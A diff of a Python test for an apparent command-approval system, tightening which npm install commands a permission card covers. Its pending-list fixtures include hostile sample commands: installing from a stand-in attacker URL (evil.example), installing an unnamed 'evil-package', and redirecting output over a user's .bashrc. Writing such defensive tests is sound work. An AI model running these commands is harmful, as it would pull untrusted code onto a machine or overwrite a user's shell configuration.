@@ -165,10 +165,10 @@ def test_a_program_is_covered_with_the_targets_of_the_card_and_nothing_else(prod
     covered = [
         "npm install left-pad@1.0.0",
         "npm install --no-audit left-pad@1.0.0",
-        "npm install",  # what the lock file names
     ]
     assert shop.ask_and_look(covered) == dict.fromkeys(covered, "approved")
     others = [
+        "npm install",  # whatever the project's files name, which the card did not
         "npm install evil-package",
         "npm install left-pad@1.0.0 evil-package",
         "npm install http://evil.example/x.tgz",
@@ -186,8 +186,9 @@ def test_a_program_is_covered_with_the_targets_of_the_card_and_nothing_else(prod
         "npm install > /home/mia/.bashrc",
     ]
     assert shop.ask_and_look(others) == dict.fromkeys(others, "pending")
-    assert shop.run("npm install", cwd="/workspace/other")["status"] == "pending"
-    assert Place(product, "another-shop").run("npm install")["status"] == "pending"
+    covered = covered[0]
+    assert shop.run(covered, cwd="/workspace/other")["status"] == "pending"
+    assert Place(product, "another-shop").run(covered)["status"] == "pending"
 
 
 def test_a_push_is_covered_for_its_branch_and_not_forced(product):
